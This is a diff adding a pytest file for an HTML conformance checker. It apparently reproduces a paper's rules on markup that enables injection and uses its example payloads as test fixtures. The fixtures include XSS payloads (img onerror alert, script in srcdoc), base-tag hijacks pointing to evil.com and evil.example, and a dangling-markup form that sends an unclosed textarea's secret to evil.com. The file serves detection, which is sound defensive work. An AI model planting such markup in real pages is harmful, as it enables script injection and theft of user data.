@@ -1,0 +1,358 @@
+"""Per-rule positive and negative cases, built around the paper's own
+example payloads (Figures 2–5, 11–15)."""
+from __future__ import annotations
+
+import pytest
+
+from repro.core import Checker
+
+CHECKER = Checker()
+
+
+def violated(html: str) -> frozenset[str]:
+    return CHECKER.check_html(html).violated
+
+
+PAGE = (
+    "<!DOCTYPE html><html><head><title>t</title></head><body>{}</body></html>"
+)
+
+
+class TestFB1:
+    def test_paper_payload(self):
+        assert "FB1" in violated(PAGE.format(
+            "<img/src=\"x\"/onerror=\"alert('XSS')\">"
+        ))
+
+    def test_figure13_onclick(self):
+        html = PAGE.format(
+            '<a href="..." target="_blank" onClick="img=new Image();'
+            'img.src="/foo?cl=16796306";">x</a>'
+        )
+        assert "FB1" in violated(html)
+
+    def test_valid_self_closing_not_fb1(self):
+        assert "FB1" not in violated(PAGE.format('<img src="x"/>'))
+
+
+class TestFB2:
+    def test_paper_payload(self):
+        assert "FB2" in violated(PAGE.format(
+            '<img src="users/injection"onerror="alert(1)">'
+        ))
+
+    def test_figure13_cote_divoire(self):
+        html = PAGE.format(
+            "<select><option value='Cote d'Ivoire'>CI</option></select>"
+        )
+        assert "FB2" in violated(html)
+
+    def test_spaced_attributes_clean(self):
+        assert "FB2" not in violated(PAGE.format('<img src="a" alt="b">'))
+
+
+class TestDM3:
+    def test_duplicate_onclick(self):
+        assert "DM3" in violated(PAGE.format(
+            '<div id="injection" onclick="evil()" onclick="benign()">x</div>'
+        ))
+
+    def test_figure14_duplicate_alt(self):
+        assert "DM3" in violated(PAGE.format(
+            '<img src="/a.jpg" alt="" width="10" alt="photo">'
+        ))
+
+    def test_distinct_attributes_clean(self):
+        assert "DM3" not in violated(PAGE.format('<div id="a" class="b">x</div>'))
+
+
+class TestDM1:
+    def test_figure15_refresh_in_body(self):
+        assert "DM1" in violated(PAGE.format(
+            '<meta http-equiv="Refresh" content="0; URL=http://wds.iea.org/wds">'
+        ))
+
+    def test_meta_in_head_clean(self):
+        html = (
+            "<!DOCTYPE html><html><head><title>t</title>"
+            '<meta http-equiv="X-UA-Compatible" content="IE=edge">'
+            "</head><body>x</body></html>"
+        )
+        assert "DM1" not in violated(html)
+
+    def test_meta_charset_in_body_not_dm1(self):
+        """Only http-equiv metas are DM1 (charset metas lack the attack
+        surface; they are not flagged)."""
+        assert "DM1" not in violated(PAGE.format('<meta charset="utf-8">'))
+
+
+class TestDM2:
+    HEAD_PAGE = (
+        "<!DOCTYPE html><html><head><title>t</title>{}</head>"
+        "<body>{}</body></html>"
+    )
+
+    def test_dm2_1_base_in_body(self):
+        report = CHECKER.check_html(self.HEAD_PAGE.format(
+            "", '<base href="https://evil.com/">'
+        ))
+        assert "DM2_1" in report.violated
+
+    def test_dm2_1_clean_in_head(self):
+        assert "DM2_1" not in violated(self.HEAD_PAGE.format(
+            '<base href="/app/">', "x"
+        ))
+
+    def test_dm2_2_multiple_base(self):
+        assert "DM2_2" in violated(self.HEAD_PAGE.format(
+            '<base href="/a/"><base href="/b/">', "x"
+        ))
+
+    def test_dm2_2_single_base_clean(self):
+        assert "DM2_2" not in violated(self.HEAD_PAGE.format(
+            '<base href="/a/">', "x"
+        ))
+
+    def test_dm2_3_base_after_link(self):
+        assert "DM2_3" in violated(self.HEAD_PAGE.format(
+            '<link rel="stylesheet" href="/s.css"><base href="/app/">', "x"
+        ))
+
+    def test_dm2_3_base_before_urls_clean(self):
+        assert "DM2_3" not in violated(self.HEAD_PAGE.format(
+            '<base href="/app/"><link rel="stylesheet" href="/s.css">', "x"
+        ))
+
+    def test_cve_2020_29653_shape(self):
+        """The Froxlor credential theft: an injected base in the body
+        rebases the relative script source that follows it."""
+        html = self.HEAD_PAGE.format(
+            "", '<base href="https://evil.example/"><script src="js/app.js">'
+            "</script>"
+        )
+        report = CHECKER.check_html(html)
+        assert "DM2_1" in report.violated
+
+    def test_dm2_3_in_body_after_url_use(self):
+        html = self.HEAD_PAGE.format(
+            "", '<img src="/logo.png"><base href="https://evil.example/">'
+        )
+        report = CHECKER.check_html(html)
+        assert {"DM2_1", "DM2_3"} <= report.violated
+
+
+class TestDE1:
+    def test_figure3(self):
+        html = (
+            '<!DOCTYPE html><html><head><title>t</title></head><body>'
+            '<form action="https://evil.com"><input type="submit">'
+            "<textarea>\n<p>My little secret</p>"
+        )
+        assert "DE1" in violated(html)
+
+    def test_closed_textarea_clean(self):
+        assert "DE1" not in violated(PAGE.format("<textarea>x</textarea>"))
+
+    def test_unclosed_title_is_not_de1(self):
+        assert "DE1" not in violated("<html><head><title>never closed")
+
+
+class TestDE2:
+    def test_unclosed_select(self):
+        html = "<!DOCTYPE html><html><body><select><option>France"
+        assert "DE2" in violated(html)
+
+    def test_closed_select_clean(self):
+        assert "DE2" not in violated(PAGE.format(
+            "<select><option>a</option></select>"
+        ))
+
+
+class TestDE3:
+    def test_de3_1_newline_and_lt_in_url(self):
+        assert "DE3_1" in violated(PAGE.format(
+            '<a href="https://e/?c=\n<page>">x</a>'
+        ))
+
+    def test_de3_1_newline_only_clean(self):
+        assert "DE3_1" not in violated(PAGE.format(
+            '<a href="https://e/?c=\nplain">x</a>'
+        ))
+
+    def test_de3_1_lt_only_clean(self):
+        assert "DE3_1" not in violated(PAGE.format(
+            '<a href="https://e/?c=<page>">x</a>'
+        ))
+
+    def test_de3_1_non_url_attribute_ignored(self):
+        assert "DE3_1" not in violated(PAGE.format(
+            '<div data-note="\n<x>">y</div>'
+        ))
+
+    def test_de3_2_script_in_attribute(self):
+        assert "DE3_2" in violated(PAGE.format(
+            '<iframe srcdoc="<script>x()</script>"></iframe>'
+        ))
+
+    def test_de3_2_case_insensitive(self):
+        assert "DE3_2" in violated(PAGE.format(
+            '<div data-html="<SCRIPT src=/x>">y</div>'
+        ))
+
+    def test_de3_2_entity_encoded_also_detected(self):
+        # tokenizer decodes entities in attribute values before the check
+        assert "DE3_2" in violated(PAGE.format(
+            '<div data-html="&lt;script&gt;x()">y</div>'
+        ))
+
+    def test_de3_2_plain_attr_clean(self):
+        assert "DE3_2" not in violated(PAGE.format('<div data-x="script">y</div>'))
+
+    def test_de3_3_newline_in_target(self):
+        assert "DE3_3" in violated(PAGE.format(
+            '<a href="/p" target="promo\nwin">x</a>'
+        ))
+
+    def test_de3_3_figure5_base_target(self):
+        html = PAGE.format(
+            '<a href="https://evil.com">click</a><base target="\n'
+            '<p>secret</p>">'
+        )
+        assert "DE3_3" in violated(html)
+
+    def test_de3_3_normal_target_clean(self):
+        assert "DE3_3" not in violated(PAGE.format(
+            '<a href="/p" target="_blank">x</a>'
+        ))
+
+
+class TestDE4:
+    def test_figure13_nested_forms(self):
+        html = PAGE.format(
+            '<form method="get" action="/search/">'
+            '<form id="keywordsearch" method="get" action="/search">'
+            '<input name="q"></form>'
+        )
+        assert "DE4" in violated(html)
+
+    def test_sibling_forms_clean(self):
+        assert "DE4" not in violated(PAGE.format(
+            "<form action='/a'></form><form action='/b'></form>"
+        ))
+
+
+class TestHF1:
+    def test_stray_div_in_head(self):
+        html = (
+            "<!DOCTYPE html><html><head><title>t</title>"
+            "<div hidden>modal</div></head><body>x</body></html>"
+        )
+        assert "HF1" in violated(html)
+
+    def test_missing_head_tags(self):
+        assert "HF1" in violated("<html><body>x</body></html>")
+
+    def test_late_head_element(self):
+        html = (
+            "<!DOCTYPE html><html><head><title>t</title></head>"
+            '<link rel="stylesheet" href="/x.css"><body>x</body></html>'
+        )
+        assert "HF1" in violated(html)
+
+    def test_complete_head_clean(self):
+        assert "HF1" not in violated(PAGE.format("x"))
+
+
+class TestHF2:
+    def test_content_before_body(self):
+        html = (
+            "<!DOCTYPE html><html><head><title>t</title></head>"
+            "<img src='p.gif'><body>x</body></html>"
+        )
+        assert "HF2" in violated(html)
+
+    def test_explicit_body_clean(self):
+        assert "HF2" not in violated(PAGE.format("x"))
+
+    def test_head_only_document_not_hf2(self):
+        assert "HF2" not in violated(
+            "<!DOCTYPE html><html><head><title>t</title></head></html>"
+        )
+
+
+class TestHF3:
+    def test_second_body(self):
+        assert "HF3" in violated(
+            "<!DOCTYPE html><html><head><title>t</title></head>"
+            "<body class=a><p>x</p><body data-x=1></body></html>"
+        )
+
+    def test_single_body_clean(self):
+        assert "HF3" not in violated(PAGE.format("x"))
+
+
+class TestHF4:
+    def test_figure11(self):
+        assert "HF4" in violated(PAGE.format(
+            "<table><tr><strong>Cozi Organizer</strong></tr>"
+            "<tr><td>x</td></tr></table>"
+        ))
+
+    def test_clean_table(self):
+        assert "HF4" not in violated(PAGE.format(
+            "<table><tr><td><strong>x</strong></td></tr></table>"
+        ))
+
+
+class TestHF5:
+    def test_hf5_1_stranded_path(self):
+        assert "HF5_1" in violated(PAGE.format(
+            '<g class="icon"><path d="M0 0h24z"></path></g>'
+        ))
+
+    def test_hf5_1_stranded_mathml(self):
+        assert "HF5_1" in violated(PAGE.format("<mrow><mi>x</mi></mrow>"))
+
+    def test_hf5_1_proper_svg_clean(self):
+        assert "HF5_1" not in violated(PAGE.format(
+            '<svg><path d="M0 0h24z"></path></svg>'
+        ))
+
+    def test_hf5_2_div_in_svg(self):
+        assert "HF5_2" in violated(PAGE.format(
+            "<svg><div>overlay</div></svg>"
+        ))
+
+    def test_hf5_2_foreignobject_clean(self):
+        assert "HF5_2" not in violated(PAGE.format(
+            "<svg><foreignObject><div>fine</div></foreignObject></svg>"
+        ))
+
+    def test_hf5_3_div_in_math(self):
+        assert "HF5_3" in violated(PAGE.format(
+            "<math><mrow><div>x</div></mrow></math>"
+        ))
+
+    def test_hf5_3_mtext_integration_clean(self):
+        assert "HF5_3" not in violated(PAGE.format(
+            "<math><mtext><b>fine</b></mtext></math>"
+        ))
+
+    def test_valid_math_usage_clean(self):
+        assert violated(PAGE.format(
+            "<math><mi>x</mi><mo>+</mo><mn>1</mn></math>"
+        )) == frozenset()
+
+
+class TestCleanDocument:
+    def test_conforming_page_no_findings(self):
+        html = (
+            "<!DOCTYPE html><html lang='en'><head><title>ok</title>"
+            '<meta charset="utf-8"><base href="/app/">'
+            '<link rel="stylesheet" href="/s.css"></head>'
+            "<body><h1>Hi</h1><p>Text with <a href='/x'>link</a>.</p>"
+            "<table><tbody><tr><td>1</td></tr></tbody></table>"
+            "</body></html>"
+        )
+        report = CHECKER.check_html(html)
+        assert report.findings == []
